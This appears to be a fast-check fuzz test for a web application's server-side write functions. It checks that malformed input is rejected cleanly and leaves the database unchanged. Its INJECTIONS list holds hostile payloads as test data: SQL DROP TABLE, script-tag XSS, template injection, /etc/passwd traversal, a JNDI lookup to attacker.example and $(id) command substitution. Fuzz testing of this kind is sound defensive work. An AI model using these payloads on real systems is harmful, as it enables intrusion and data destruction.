// Bad input never breaks anything (issue 10, guarantee 2), at the domain layer: the server actions
// hand whatever the browser sent straight to these functions (server/http/run-action.ts), so each
// write function gets seeded fast-check inputs as a role that may use it. Each call must either
// succeed on input its schema accepts or throw a DomainError (never another error: that would be
// a 500 / "something went wrong"), and a refused write must leave its records as they were.
// The HTTP side of the same guarantee: e2e/bad-input.spec.ts (the fuzz helpers of test-support/fuzz.ts serve both).
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { formatKey, type Role } from "../lib/lifecycle";
import { ApiTokenCreateSchema } from "../lib/validation/api-token";
import { ChecklistItemUpdateSchema, TemplateUpdateSchema } from "../lib/validation/checklist";
import { CommentSchema } from "../lib/validation/comment";
import { DecisionSchema, FeedbackSchema, GateRequestSchema, ReopenSchema } from "../lib/validation/gate";
import { ServiceBatchSchema, ServiceCreateSchema, ServiceUpdateSchema } from "../lib/validation/service";
import { UseCaseCreateSchema, UseCaseUpdateSchema } from "../lib/validation/use-case";
import { UserAdminCreateSchema, UserUpdateSchema } from "../lib/validation/user";
import { ActualSchema, EstimateSchema, OrgSettingsSchema } from "../lib/validation/value";
import { WebhookCreateSchema, WebhookUpdateSchema } from "../lib/validation/webhook";
import { makeChecklist, makeUseCase, makeUser, signedIn } from "../prisma/seed/factories";
import { useCaseState } from "../test-support/bad-input-targets/kit";
import { FUZZ_RUNS, seedOf, segs, setAt, stringLeaves } from "../test-support/fuzz";
import { createMyApiToken, revokeMyApiToken } from "./auth/my-api-tokens";
import { listTemplates, updateTemplate } from "./checklists/manage-templates";
import { signOffChecklist } from "./checklists/sign-off-checklist";
import { updateChecklistItem } from "./checklists/update-checklist-item";
import { createComment } from "./comments/create-comment";
import { mentionCandidates } from "./comments/mention-candidates";
import { db } from "./db";
import { DomainError } from "./errors";
import { createFeedback } from "./feedback/feedback";
import { closeCondition } from "./gates/close-condition";
import { decideGate } from "./gates/decide-gate";
import { reopenUseCase } from "./gates/reopen-use-case";
import { requestGateReview } from "./gates/request-gate-review";
import { markNotificationsRead } from "./notifications/list-notifications";
import { checkService } from "./services/check-service";
import { createService, deleteService, saveServices, updateService } from "./services/services";
import { getOrgSettings, updateOrgSettings } from "./settings/org-settings";
import { createUseCase } from "./use-cases/create-use-case";
import { updateUseCase } from "./use-cases/update-use-case";
import { createManagedUser, updateManagedUser } from "./users/manage-users";
import { createActual } from "./value/actuals";
import { createEstimate } from "./value/estimates";
import { retryDelivery, sendTestDelivery } from "./webhooks/deliveries";
import { createWebhook, deleteWebhook, rotateWebhookSecret, updateWebhook } from "./webhooks/manage-webhooks";

type User = Awaited<ReturnType<typeof makeUser>>;
type Ctx = { actor: User; owner: User; admin: User; business: User; tag: string };

/** A write function aimed at fresh records. */
type Prepared = {
  /** The function as a server action calls it: the record's id or key (a string) and the input. */
  call: (input: unknown, id: string) => Promise<unknown>;
  /** The real id or key of the target ("" when the function takes none). */
  id: string;
  /** A valid input, as of now (versions are read again). */
  valid: () => Promise<unknown>;
  snapshot: () => Promise<unknown>;
  /** Leaves text mutations may replace (default: every string leaf of the valid input). */
  textPaths?: string[];
  /** Remove what valid fuzzed writes left behind that could disturb other tests. */
  cleanup?: () => Promise<void>;
  /** Turn an accepted input into one that changes nothing shared (the org settings). */
  neutralise?: (input: Record<string, unknown>) => Promise<Record<string, unknown>>;
};

type Op = {
  as: Role;
  /** The schema of the input (success is allowed only for input it accepts); none: no input. */
  schema?: z.ZodType;
  money?: string[];
  setup: (ctx: Ctx) => Promise<Prepared>;
};

const json = <T>(value: T): T => JSON.parse(JSON.stringify(value ?? null));
const today = () => new Date().toISOString().slice(0, 10);

async function actorState(actorId: string) {
  return {
    audit: await db.auditEvent.count({ where: { actorId, NOT: { action: "authz.refused" } } }),
    // Read ones only: other test files' gate requests notify every decider at any moment.
    notifications: await db.notification.findMany({
      where: { userId: actorId, readAt: { not: null } },
      select: { id: true, readAt: true },
      orderBy: { id: "asc" },
    }),
  };
}
const withActor = (ctx: Ctx, state: () => Promise<unknown>) => async () =>
  json({ target: await state(), actor: await actorState(ctx.actor.id) });

async function seedUseCase(ctx: Ctx, seed: Partial<Parameters<typeof makeUseCase>[1]> = {}) {
  const row = await makeUseCase(db, { ownerId: ctx.owner.id, title: `Fuzz ${ctx.tag}`, ...seed });
  return { ...row, key: formatKey(row.number) };
}
const G1_READY = {
  output: "Churn risk per customer",
  outcome: "Fewer customers lost",
  benefitArea: "REVENUE_GROWTH" as const,
  ebitda: { low: "100000", base: "200000", high: "300000" },
  pocResult: "AUC 0.81",
};

/** Aimed at a use case by its key. */
async function atKey(
  ctx: Ctx,
  seed: Partial<Parameters<typeof makeUseCase>[1]>,
  fn: (actor: User, key: string, input: unknown) => Promise<unknown>,
  valid: (uc: { id: string; key: string }) => Promise<unknown> = async () => ({}),
): Promise<Prepared> {
  const uc = await seedUseCase(ctx, seed);
  return {
    call: (input, key) => fn(ctx.actor, key, input),
    id: uc.key,
    valid: () => valid(uc),
    snapshot: withActor(ctx, () => useCaseState(db, uc.id)),
  };
}

async function webhookState(id: string) {
  return {
    webhook: await db.webhook.findUnique({ where: { id } }),
    deliveries: await db.webhookDelivery.count({ where: { webhookId: id } }),
  };
}
async function makeWebhook(ctx: Ctx) {
  return createWebhook(ctx.admin, {
    url: "http://127.0.0.1:9/fuzz",
    events: ["gate.decided"],
    description: `Fuzz ${ctx.tag}`,
    active: false,
  });
}
async function makeService(ctx: Ctx) {
  const uc = await seedUseCase(ctx);
  const svc = await createService(ctx.admin, uc.key, {
    name: "Scoring",
    environment: "DEV",
    url: "http://127.0.0.1:9/x",
  });
  return { uc, svc };
}
/** Only the record id: the function takes no input. */
const idOnly = (id: string, fn: (id: string) => Promise<unknown>, snapshot: () => Promise<unknown>): Prepared => ({
  call: (_input, target) => fn(target),
  id,
  valid: async () => undefined,
  snapshot,
});

const OPS: Record<string, Op> = {
  createUseCase: {
    as: "DATA_SCIENTIST",
    schema: UseCaseCreateSchema,
    money: ["ebitda.low", "ebitda.base", "ebitda.high"],
    setup: async (ctx) => ({
      call: (input) => createUseCase(ctx.actor, input),
      id: "",
      valid: async () => ({
        title: `Fuzz ${ctx.tag}`,
        outcome: "An outcome",
        ebitda: { low: "1", base: "2", high: "3", currency: "EUR" },
      }),
      snapshot: withActor(ctx, async () => db.useCase.count({ where: { ownerId: ctx.actor.id } })),
    }),
  },
  updateUseCase: {
    as: "ADMIN",
    schema: UseCaseUpdateSchema,
    money: ["ebitda.low", "ebitda.base", "ebitda.high"],
    setup: (ctx) =>
      atKey(ctx, {}, updateUseCase, async (uc) => ({
        version: (await db.useCase.findUniqueOrThrow({ where: { id: uc.id } })).version,
        title: "Edited",
        ebitda: { low: "10", base: "20", high: "30", currency: "EUR" },
      })),
  },
  reopenUseCase: {
    as: "ADMIN",
    schema: ReopenSchema,
    setup: (ctx) => atKey(ctx, { status: "STOPPED" }, reopenUseCase, async () => ({ reason: "Budget found" })),
  },
  requestGateReview: {
    as: "ADMIN",
    schema: GateRequestSchema,
    setup: (ctx) =>
      atKey(ctx, G1_READY, requestGateReview, async () => ({
        note: "Ready",
        evidenceUrls: ["https://wiki.example.com/poc"],
      })),
  },
  decideGate: {
    as: "BUSINESS",
    schema: DecisionSchema,
    setup: async (ctx) => {
      const uc = await seedUseCase(ctx, G1_READY);
      const review = await requestGateReview(ctx.admin, uc.key, { note: "Ready" });
      return {
        call: (input, id) => decideGate(ctx.actor, id, input),
        id: review.id,
        valid: async () => ({ decision: "GO", rationale: "The POC holds" }),
        snapshot: withActor(ctx, () => useCaseState(db, uc.id)),
      };
    },
  },
  closeCondition: {
    as: "ADMIN",
    setup: async (ctx) => {
      const uc = await seedUseCase(ctx, G1_READY);
      const review = await requestGateReview(ctx.admin, uc.key, { note: "Ready" });
      const decided = await decideGate(ctx.business, review.id, {
        decision: "CONDITIONAL_GO",
        rationale: "Go, with a data contract",
        conditions: [
          {
            text: "Sign it",
            ownerId: ctx.owner.id,
            dueOn: new Date(Date.now() + 14 * 86_400_000).toISOString().slice(0, 10),
          },
        ],
      });
      const condition = decided.conditions[0];
      if (!condition) throw new Error("no condition");
      return idOnly(
        condition.id,
        (id) => closeCondition(ctx.actor, id),
        withActor(ctx, () => useCaseState(db, uc.id)),
      );
    },
  },
  updateChecklistItem: {
    as: "ADMIN",
    schema: ChecklistItemUpdateSchema,
    setup: async (ctx) => {
      const uc = await seedUseCase(ctx, { stage: "PROTOTYPE" });
      await makeChecklist(db, { useCaseId: uc.id, stage: "PROTOTYPE" });
      const item = await db.checklistItem.findFirstOrThrow({
        where: { useCaseId: uc.id, answerType: "NONE" },
        orderBy: { position: "asc" },
      });
      return {
        // The action passes the key and the item id; the id is the fuzzed one here.
        call: (input, id) => updateChecklistItem(ctx.actor, uc.key, id, input),
        id: item.id,
        valid: async () => ({
          status: "IN_PROGRESS",
          note: "Started",
          evidenceUrl: "https://git.example.com/model",
          version: (await db.checklistItem.findUniqueOrThrow({ where: { id: item.id } })).version,
        }),
        snapshot: withActor(ctx, () => useCaseState(db, uc.id)),
      };
    },
  },
  signOffChecklist: {
    as: "IT",
    setup: async (ctx) => {
      const uc = await seedUseCase(ctx, { stage: "PACKAGING" });
      await makeChecklist(db, { useCaseId: uc.id, stage: "PACKAGING", status: "DONE" });
      return idOnly(
        uc.key,
        (key) => signOffChecklist(ctx.actor, key),
        withActor(ctx, () => useCaseState(db, uc.id)),
      );
    },
  },
  updateTemplate: {
    as: "ADMIN",
    // The function reads `expectedVersion` apart, then validates the rest.
    schema: TemplateUpdateSchema.extend({ expectedVersion: z.number().int() }),
    setup: async (ctx) => {
      // Shared: valid input is the current items plus one retired item of this test's own (first),
      // and only that item's text is fuzzed.
      const own = {
        key: `fuzz-${ctx.tag}`.slice(0, 40),
        section: "Fuzz",
        label: "Fuzz",
        answerType: "NONE",
        retired: true,
      };
      return {
        call: (input, stage) => updateTemplate(ctx.actor, stage, input),
        id: "PROTOTYPE",
        valid: async () => {
          const template = (await listTemplates(ctx.actor)).find((t) => t.stage === "PROTOTYPE");
          if (!template) throw new Error("no template");
          const items = template.items
            .filter((item) => !item.key.startsWith("fuzz-") && !item.key.startsWith("lost-update-"))
            .map(({ answered: _answered, ...item }) => item);
          return { items: [own, ...items], expectedVersion: template.version };
        },
        textPaths: ["items.0.section", "items.0.label", "items.0.key"],
        snapshot: withActor(ctx, async () => db.checklistTemplate.count({ where: { createdById: ctx.actor.id } })),
      };
    },
  },
  createEstimate: {
    as: "ADMIN",
    schema: EstimateSchema,
    money: ["ebitdaLow", "ebitdaBase", "ebitdaHigh", "investment", "runCostPerYear"],
    setup: (ctx) =>
      atKey(ctx, {}, createEstimate, async () => ({
        ebitdaLow: "100",
        ebitdaBase: "200",
        ebitdaHigh: "300",
        investment: "50",
        runCostPerYear: "10",
        horizonYears: 3,
        currency: "EUR",
      })),
  },
  createActual: {
    as: "ADMIN",
    schema: ActualSchema,
    money: ["ebitda"],
    setup: (ctx) =>
      atKey(ctx, { stage: "PRODUCTION" }, createActual, async () => ({
        period: today().slice(0, 7),
        ebitda: "1250.50",
        note: "First",
      })),
  },
  createFeedback: {
    as: "BUSINESS",
    schema: FeedbackSchema,
    setup: (ctx) => atKey(ctx, {}, createFeedback, async () => ({ text: "Useful", rating: 4 })),
  },
  createComment: {
    as: "BUSINESS",
    schema: CommentSchema,
    setup: (ctx) => atKey(ctx, {}, createComment, async () => ({ body: `Hello ${ctx.tag}`, mentions: [] })),
  },
  createMyApiToken: {
    as: "IT",
    schema: ApiTokenCreateSchema,
    setup: async (ctx) => ({
      call: (input) => createMyApiToken(signedIn(ctx.actor), input),
      id: "",
      valid: async () => ({ name: `Fuzz ${ctx.tag}` }),
      snapshot: withActor(ctx, async () => db.apiToken.count({ where: { userId: ctx.actor.id } })),
    }),
  },
  revokeMyApiToken: {
    as: "IT",
    setup: async (ctx) => {
      const created = await createMyApiToken(signedIn(ctx.actor), { name: "To revoke" });
      return idOnly(
        created.id,
        (id) => revokeMyApiToken(ctx.actor, id),
        withActor(ctx, async () =>
          db.apiToken.findMany({ where: { userId: ctx.actor.id }, select: { revokedAt: true } }),
        ),
      );
    },
  },
  createWebhook: {
    as: "ADMIN",
    schema: WebhookCreateSchema,
    setup: async (ctx) => ({
      call: (input) => createWebhook(ctx.actor, input),
      id: "",
      valid: async () => ({
        url: "http://127.0.0.1:9/created",
        events: ["stage.changed"],
        active: false,
        description: "Created",
      }),
      snapshot: withActor(ctx, async () => db.webhook.count({ where: { createdById: ctx.actor.id } })),
      // A fuzzed `active: true` would receive other tests' events.
      cleanup: async () => {
        await db.webhook.deleteMany({ where: { createdById: ctx.actor.id } });
      },
    }),
  },
  updateWebhook: {
    as: "ADMIN",
    schema: WebhookUpdateSchema,
    setup: async (ctx) => {
      const hook = await makeWebhook(ctx);
      return {
        call: (input, id) => updateWebhook(ctx.actor, id, input),
        id: hook.id,
        valid: async () => ({
          version: (await db.webhook.findUniqueOrThrow({ where: { id: hook.id } })).version,
          description: "Edited",
          active: false,
        }),
        snapshot: withActor(ctx, () => webhookState(hook.id)),
      };
    },
  },
  deleteWebhook: {
    as: "ADMIN",
    setup: async (ctx) => {
      const hook = await makeWebhook(ctx);
      return idOnly(
        hook.id,
        (id) => deleteWebhook(ctx.actor, id),
        withActor(ctx, () => webhookState(hook.id)),
      );
    },
  },
  rotateWebhookSecret: {
    as: "ADMIN",
    setup: async (ctx) => {
      const hook = await makeWebhook(ctx);
      return idOnly(
        hook.id,
        (id) => rotateWebhookSecret(ctx.actor, id),
        withActor(ctx, () => webhookState(hook.id)),
      );
    },
  },
  sendTestDelivery: {
    as: "ADMIN",
    setup: async (ctx) => {
      const hook = await makeWebhook(ctx);
      return idOnly(
        hook.id,
        (id) => sendTestDelivery(ctx.actor, id),
        withActor(ctx, () => webhookState(hook.id)),
      );
    },
  },
  retryDelivery: {
    as: "ADMIN",
    setup: async (ctx) => {
      const hook = await makeWebhook(ctx);
      const delivery = await db.webhookDelivery.create({
        data: { webhookId: hook.id, event: "ping", payload: {}, status: "FAILED", attempts: 1 },
      });
      return idOnly(
        delivery.id,
        (id) => retryDelivery(ctx.actor, id),
        withActor(ctx, () => webhookState(hook.id)),
      );
    },
  },
  createService: {
    as: "ADMIN",
    schema: ServiceCreateSchema,
    setup: (ctx) =>
      atKey(ctx, {}, createService, async () => ({
        name: "Scoring API",
        environment: "DEV",
        url: "http://127.0.0.1:9/score",
        kind: "MODEL_API",
      })),
  },
  saveServices: {
    as: "ADMIN",
    schema: ServiceBatchSchema,
    setup: (ctx) =>
      atKey(ctx, {}, saveServices, async () => ({
        services: [{ name: "grafana", kind: "GRAFANA", environment: "STAGING", url: "http://127.0.0.1:3000/" }],
      })),
  },
  updateService: {
    as: "ADMIN",
    schema: ServiceUpdateSchema,
    setup: async (ctx) => {
      const { uc, svc } = await makeService(ctx);
      return {
        call: (input, id) => updateService(ctx.actor, id, input),
        id: svc.id,
        valid: async () => ({
          version: (await db.service.findUniqueOrThrow({ where: { id: svc.id } })).version,
          name: "Renamed",
          note: "Edited",
        }),
        snapshot: withActor(ctx, () => useCaseState(db, uc.id)),
      };
    },
  },
  deleteService: {
    as: "ADMIN",
    setup: async (ctx) => {
      const { uc, svc } = await makeService(ctx);
      return idOnly(
        svc.id,
        (id) => deleteService(ctx.actor, id),
        withActor(ctx, () => useCaseState(db, uc.id)),
      );
    },
  },
  checkService: {
    as: "ADMIN",
    setup: async (ctx) => {
      const { uc, svc } = await makeService(ctx);
      return idOnly(
        svc.id,
        (id) => checkService(ctx.actor, id),
        withActor(ctx, () => useCaseState(db, uc.id)),
      );
    },
  },
  createManagedUser: {
    as: "ADMIN",
    schema: UserAdminCreateSchema,
    setup: async (ctx) => {
      const prefix = `fuzz-${ctx.tag}`;
      let n = 0;
      return {
        call: (input) => createManagedUser(ctx.actor, input),
        id: "",
        valid: async () => ({
          email: `${prefix}-${n++}@test.roadbook`,
          name: "Fuzz User",
          role: "BUSINESS",
          team: "Fuzz",
        }),
        snapshot: withActor(ctx, async () => db.user.count({ where: { email: { startsWith: prefix } } })),
      };
    },
  },
  updateManagedUser: {
    as: "ADMIN",
    schema: UserUpdateSchema,
    setup: async (ctx) => {
      const user = await makeUser(db, { role: "BUSINESS" });
      return {
        call: (input, id) => updateManagedUser(ctx.actor, id, input),
        id: user.id,
        valid: async () => ({
          team: "Fuzz team",
          updatedAt: (await db.user.findUniqueOrThrow({ where: { id: user.id } })).updatedAt.toISOString(),
        }),
        snapshot: withActor(ctx, async () =>
          db.user.findUnique({
            where: { id: user.id },
            select: { role: true, team: true, active: true, awaitingRole: true, updatedAt: true },
          }),
        ),
      };
    },
  },
  updateOrgSettings: {
    as: "ADMIN",
    schema: OrgSettingsSchema,
    setup: async (ctx) => ({
      call: (input) => updateOrgSettings(ctx.actor, input),
      id: "",
      valid: async () => ({ version: (await getOrgSettings()).version }),
      // One shared row: an accepted input is sent with the current values (changes nothing).
      neutralise: async (input) => {
        const current = (await getOrgSettings()) as Record<string, unknown>;
        return Object.fromEntries(Object.keys(input).map((key) => [key, current[key]]));
      },
      snapshot: withActor(ctx, async () => {
        const row = await db.orgSettings.findUnique({ where: { id: 1 } });
        return row && { ...row, updatedAt: undefined, updatedById: undefined };
      }),
    }),
  },
  markNotificationsRead: {
    as: "BUSINESS",
    schema: z.unknown(),
    setup: async (ctx) => {
      await db.notification.create({ data: { userId: ctx.actor.id, kind: "TEST", title: "Unread", href: "/" } });
      return {
        // The action sends `ids.map(String)` when given a list.
        call: (input) => markNotificationsRead(ctx.actor, Array.isArray(input) ? input.map(String) : ["none"]),
        id: "",
        valid: async () => ["cnotanotification0000000"],
        snapshot: withActor(ctx, async () => null),
      };
    },
  },
};

// ---------------------------------------------------------------------------------------------

const ODD = [
  "\uD800",
  "a\uDC00",
  "\u202Eevil\u202C",
  "\u200F\u200E",
  "\u0000",
  "a\u0000b",
  "😀👩‍👩‍👧‍👦",
  "e\u0301\u0302\u0303",
  "\uFEFF",
  "\u2028",
  "\uFFFF",
  "\u{10FFFF}",
];
const INJECTIONS = [
  `'; DROP TABLE "UseCase"; --`,
  "<script>alert(1)</script>",
  "{{7*7}}",
  "../../etc/passwd",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection payload, literally
  "${jndi:ldap://attacker.example/a}",
  "$(id)",
];
const MONEY = [
  "1e400",
  "-0.001",
  "12345678901234567.89",
  "0x10",
  " 1 ",
  "NaN",
  "Infinity",
  "-0",
  "1,000",
  "１２",
  "9999999999999.99",
  "10000000000000",
  "",
];
const GARBAGE_IDS = [
  "",
  " ",
  "UC-0",
  "UC-1000000000",
  "UC-99999999999",
  "x".repeat(10_000),
  "\u0000",
  "%00",
  "../x",
  "😀",
  "\uD800",
];

/**
 * Whatever a server action can receive: React's action arguments carry JSON values and also
 * Dates, Maps, Sets, BigInts and typed arrays (never null-prototype or boxed objects, nor holes).
 */
const anything = fc.anything({
  maxDepth: 3,
  withBigInt: true,
  withDate: true,
  withMap: true,
  withSet: true,
  withTypedArray: true,
  withObjectString: true,
  stringUnit: "binary",
});
const odd = fc.oneof(fc.constantFrom(...ODD, ...INJECTIONS), fc.string({ unit: "binary", maxLength: 30 }));
const huge = fc
  .record({ size: fc.integer({ min: 100_000, max: 200_000 }), unit: fc.constantFrom("x", "😀", "\u0000", "\uD800") })
  .map(({ size, unit }) => unit.repeat(size / unit.length));

type Mutation =
  | { k: "whole"; value: unknown }
  | { k: "field"; at: number; value: unknown }
  | { k: "text"; at: number; value: string }
  | { k: "extra"; key: string; value: unknown }
  | { k: "money"; at: number; value: unknown }
  | { k: "id"; value: string };

const describeValue = (value: unknown, max = 200) => {
  let s: string;
  try {
    s = JSON.stringify(value, (_k, v) => (typeof v === "bigint" ? `${v}n` : v)) ?? String(value);
  } catch {
    s = String(value);
  }
  return s.length > max ? `${s.slice(0, max)}…(${s.length})` : s;
};

function mutations(op: Op, hasId: boolean): fc.Arbitrary<Mutation> {
  const nat = fc.nat({ max: 1000 });
  const arbs: fc.Arbitrary<Mutation>[] = [];
  if (op.schema) {
    arbs.push(
      anything.map((value) => ({ k: "whole", value }) as Mutation),
      fc.record({ at: nat, value: anything }).map((r) => ({ k: "field", ...r }) as Mutation),
      fc.record({ at: nat, value: fc.oneof(odd, huge) }).map((r) => ({ k: "text", ...r }) as Mutation),
      fc
        .record({
          key: fc.oneof(fc.constantFrom("__proto__", "constructor", "id", "stage", "role", "version2"), fc.string()),
          value: anything,
        })
        .map((r) => ({ k: "extra", ...r }) as Mutation),
    );
  }
  if (op.money?.length)
    arbs.push(
      fc
        .record({
          at: nat,
          value: fc.oneof(fc.constantFrom(...MONEY), fc.double(), fc.bigInt(), fc.double().map(String)),
        })
        .map((r) => ({ k: "money", ...r }) as Mutation),
    );
  if (hasId)
    arbs.push(
      fc
        .oneof(fc.constantFrom(...GARBAGE_IDS, ...INJECTIONS, ...ODD), fc.string({ unit: "binary", maxLength: 40 }))
        .map((value) => ({ k: "id", value }) as Mutation),
    );
  if (arbs.length === 0) throw new Error("nothing to fuzz");
  return fc.oneof(...arbs);
}

function apply(
  op: Op,
  prepared: Prepared,
  valid: unknown,
  m: Mutation,
): { input: unknown; id: string; realId: boolean } {
  const leaves = prepared.textPaths?.map(segs) ?? stringLeaves(valid);
  const keys = [...new Set([...leaves.map((l) => l.join(".")), ...Object.keys(valid ?? {})])].map(segs);
  const base = { id: prepared.id, realId: true };
  switch (m.k) {
    case "whole":
      return { ...base, input: m.value };
    case "field":
      return { ...base, input: setAt(valid, keys[m.at % Math.max(keys.length, 1)] ?? ["x"], m.value) };
    case "text":
      return { ...base, input: setAt(valid, leaves[m.at % Math.max(leaves.length, 1)] ?? ["x"], m.value) };
    case "extra": {
      const input = { ...(valid as object) } as Record<string, unknown>;
      const key = m.key in input ? `x_${m.key}` : m.key;
      Object.defineProperty(input, key, { value: m.value, enumerable: true, configurable: true, writable: true });
      return { ...base, input };
    }
    case "money": {
      const money = (op.money ?? []).map(segs);
      return { ...base, input: setAt(valid, money[m.at % money.length] ?? ["x"], m.value) };
    }
    case "id": {
      const id = m.value === prepared.id || /^\s*UC-\d{1,9}\s*$/i.test(m.value) ? `${m.value}x` : m.value;
      return { input: valid, id, realId: false };
    }
  }
}

async function check(name: string, op: Op, prepared: Prepared, m: Mutation): Promise<void> {
  const valid = await prepared.valid();
  let { input, id, realId } = apply(op, prepared, valid, m);
  const accepted = () => realId && (!op.schema || op.schema.safeParse(input).success);
  if (prepared.neutralise && accepted() && input && typeof input === "object")
    input = await prepared.neutralise(input as Record<string, unknown>);
  const before = await prepared.snapshot();
  let error: unknown;
  try {
    await prepared.call(input, id);
  } catch (e) {
    error = e;
  }
  const what = `${name}(${describeValue(id)}, ${describeValue(input)}) [${m.k}]`;
  if (error === undefined) {
    if (!accepted()) throw new Error(`${what} succeeded on input its schema refuses`);
    return;
  }
  if (!(error instanceof DomainError)) {
    const e = error as Error;
    throw new Error(
      `${what} threw ${e?.constructor?.name ?? typeof e}, not a DomainError: ${String(e?.message).slice(0, 400)}`,
    );
  }
  const after = await prepared.snapshot();
  try {
    expect(after).toEqual(before);
  } catch (e) {
    throw new Error(`${what} was refused (${error.code}) but changed the database: ${(e as Error).message}`);
  }
}

// Webhooks and services here point at closed ports of this machine: let the address policy allow it.
const probeAllow = process.env.ROADBOOK_PROBE_ALLOW;
beforeAll(() => {
  process.env.ROADBOOK_PROBE_ALLOW = "127.0.0.1/32";
});
afterAll(() => {
  if (probeAllow === undefined) delete process.env.ROADBOOK_PROBE_ALLOW;
  else process.env.ROADBOOK_PROBE_ALLOW = probeAllow;
});

describe("bad input into the domain write functions (what server actions call)", () => {
  for (const [name, op] of Object.entries(OPS)) {
    it(`${name}: succeeds on valid input or throws a DomainError, and a refusal changes nothing`, {
      timeout: 180_000,
    }, async () => {
      const tag = `${Date.now().toString(36)}${Math.random().toString(36).slice(2, 6)}`;
      const ctx: Ctx = {
        actor: await makeUser(db, { role: op.as }),
        owner: await makeUser(db, { role: "DATA_SCIENTIST" }),
        admin: await makeUser(db, { role: "ADMIN" }),
        business: await makeUser(db, { role: "BUSINESS" }),
        tag,
      };
      const prepared = await op.setup(ctx);
      const hasId = prepared.id !== "";
      const examples: Mutation[] = [
        ...(op.schema ? ODD.concat(INJECTIONS).map((value, at) => ({ k: "text", at, value }) as Mutation) : []),
        ...(op.money ? MONEY.map((value, at) => ({ k: "money", at, value }) as Mutation) : []),
        ...(hasId ? GARBAGE_IDS.map((value) => ({ k: "id", value }) as Mutation) : []),
      ];
      try {
        await fc.assert(
          fc.asyncProperty(mutations(op, hasId), (m) => check(name, op, prepared, m)),
          {
            seed: seedOf(name),
            // Examples count as runs: every example, then the random ones.
            numRuns: examples.length + Math.round((op.schema ? 40 : 15) * FUZZ_RUNS),
            examples: examples.map((m) => [m] as [Mutation]),
            endOnFailure: true,
          },
        );
      } finally {
        await prepared.cleanup?.();
      }
    });
  }

  it("the mention search (a read the composer's action calls) takes any text", async () => {
    const actor = await makeUser(db, { role: "BUSINESS" });
    await fc.assert(
      fc.asyncProperty(fc.oneof(odd, fc.constantFrom(...GARBAGE_IDS)), async (q) => {
        try {
          await mentionCandidates(actor, { q });
        } catch (e) {
          if (!(e instanceof DomainError)) throw new Error(`mentionCandidates(${describeValue(q)}) threw ${String(e)}`);
        }
      }),
      { seed: seedOf("mentionCandidates"), numRuns: 30, endOnFailure: true },
    );
  });
});
